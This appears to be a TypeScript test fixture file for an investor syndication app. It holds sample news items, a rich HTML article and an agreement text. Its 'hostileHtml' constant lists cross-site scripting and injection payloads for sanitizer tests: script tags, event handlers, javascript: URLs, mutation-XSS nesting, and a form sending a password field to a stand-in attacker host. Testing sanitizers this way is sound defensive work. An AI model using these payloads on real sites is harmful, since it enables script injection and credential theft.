import type { Agreement } from '@syndication/contract/agreement/agreement.schemas';
import type { Content, ContentSummary } from '@syndication/contract/contents/contents.schemas';
import { DEFAULT_SETTINGS } from '@syndication/contract/settings/settings.rules';

import { daysAgo, fixtureId, northeast } from './fixtures';

const updates = {
  id: fixtureId(400),
  title: 'Updates',
  groups: [{ groupId: DEFAULT_SETTINGS.specialUpdatesGroupId }],
};

const groupNews = {
  id: fixtureId(410),
  title: 'Northeast news',
  groups: [{ groupId: northeast.id }],
};

/** Updates as the list answers them, the newest first; two of them are unread. */
export const contentsFixture: ContentSummary[] = [
  {
    contentId: fixtureId(401),
    title: 'How predictions work, and who sees them',
    description:
      'Your vote says how likely you think it is that a round will fill. It decides who presents at the next meeting, and nobody but the admin of your group sees who voted what.',
    createdAt: daysAgo(2),
    categories: [updates],
    isRead: false,
  },
  {
    contentId: fixtureId(402),
    title: 'Showcase call',
    description: 'CEO deadline October 29, 11:59 PM US Eastern.',
    createdAt: daysAgo(9),
    categories: [updates],
    isRead: false,
  },
  {
    contentId: fixtureId(403),
    title: 'Deals that nobody has updated for sixty days now leave the list by themselves',
    description:
      'A listing stays active up to 60 days when current. Entrepreneurs get a reminder well before that, and one click keeps a profile alive when nothing has changed.',
    createdAt: daysAgo(31),
    categories: [updates],
    isRead: true,
  },
  {
    contentId: fixtureId(404),
    title: 'Northeast: spring meeting at the boathouse',
    description: 'Agenda, speakers and how to dial in.',
    createdAt: daysAgo(38),
    categories: [groupNews],
    isRead: true,
  },
  {
    contentId: fixtureId(405),
    title: 'The Golden Rule, with examples',
    description:
      'Treat another group’s deal as you would have them treat yours. Four situations from this season.',
    createdAt: daysAgo(44),
    categories: [updates],
    isRead: true,
  },
  {
    contentId: fixtureId(406),
    title: 'Five-minute video tour',
    description: 'Finding a deal, reading its documents and voting on its round.',
    createdAt: daysAgo(52),
    categories: [updates],
    isRead: true,
  },
  {
    contentId: fixtureId(407),
    title: 'Partner showcase: call for growth companies',
    description: 'Nominate companies with revenue of a million dollars and more.',
    createdAt: daysAgo(61),
    categories: [updates],
    isRead: true,
  },
];

const picture = `data:image/svg+xml;utf8,${encodeURIComponent(
  '<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="700"><rect width="1600" height="700" fill="#0e4644"/><path d="M0 620 400 480 800 510 1200 260 1600 90V700H0Z" fill="#83cbc1"/></svg>',
)}`;

/** Everything that an author may use. */
export const richHtml = `
<p>Members of three groups syndicated <strong>fourteen rounds</strong> this spring. The figures below come
from the deal leads; <a href="https://partner.example/showcase">the partner’s page</a> has the rest.</p>
<h2>What filled, and what did not</h2>
<p>Rounds with a deal lead who answered within two days filled twice as often.</p>
<ul><li>Nine rounds closed at their target,<ul><li>of these, four were over subscribed,</li></ul></li>
<li>three were extended,</li><li>two were withdrawn.</li></ul>
<figure><img src="${picture}" alt="Committed money by week: flat until April, then rising" width="1600" height="700">
<figcaption>Committed money by week, January to June.</figcaption></figure>
<h3>Sizes</h3>
<table><caption>Round sizes by year</caption>
<thead><tr><th scope="col">Year</th><th scope="col">Rounds</th><th scope="col">Median amount</th><th scope="col">Median valuation</th></tr></thead>
<tbody><tr><th scope="row">2024</th><td>22</td><td>$750,000</td><td>$5,000,000</td></tr>
<tr><th scope="row">2025</th><td>31</td><td>$900,000</td><td>$6,500,000</td></tr></tbody></table>
<blockquote><p>Call the CEO and the lead before you vote. It takes an hour and saves a year.</p></blockquote>
<h3>How to join one</h3>
<ol><li>Open the deal and read its documents.</li><li>Write to the deal lead.</li><li>Vote.</li></ol>
<hr><p>Questions? <a href="mailto:support@syndication.example">support@syndication.example</a></p>`;

/** Attacks that must have no effect; each would set \`window.attacked\` or call another site. */
export const hostileHtml = `
<p>What is only text stays.</p>
<script>window.attacked = 1</script>
<img src="x" onerror="window.attacked = 1">
<img src="https://evil.test/pixel.gif">
<img src="//evil.test/pixel.gif">
<img src="/api/v1/predictions?groupId=1">
<img src="data:text/html,<script>window.attacked=1</script>">
<a href="javascript:window.attacked=1">a link without a way</a>
<a href="JaVaScRiPt&#58;window.attacked=1">another one</a>
<a href="data:text/html,<script>window.attacked=1</script>">a third one</a>
<a href="vbscript:window.attacked=1">a fourth one</a>
<svg onload="window.attacked=1"><script>window.attacked=1</script><a xlink:href="javascript:window.attacked=1">x</a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.attacked=1"></style></mglyph></table></mtext></math>
<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>
<iframe src="https://evil.test/embed"></iframe>
<form action="https://evil.test"><input name="password"><button formaction="javascript:window.attacked=1">Go</button></form>
<p style="position:fixed;inset:0" onclick="window.attacked=1">a quiet paragraph</p>
<object data="https://evil.test"></object><embed src="https://evil.test">
<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">
<style>@import url(https://evil.test/x.css);</style>
<div id="location" name="cookie">clobbered</div>`;

/** An item with its body, as its page answers it. */
export function contentFixture(facts: Partial<Content> = {}): Content {
  const [newest] = contentsFixture as [ContentSummary];
  return { ...newest, contentBody: richHtml, ...facts };
}

/** The agreement in force, the second of its kind. */
export const agreementFixture: Agreement = {
  number: 2,
  body: '<p>This memorandum records a shared understanding among members.</p><h2>Definitions</h2><ul><li><strong>Angel Group.</strong> An organised group of individual investors.</li><li><strong>Deal Memo.</strong> A written summary of a company and its round.</li></ul><h2>Principles</h2><ul><li>Every investor decides alone and bears that decision alone.</li></ul>',
  publishedAt: daysAgo(30),
};
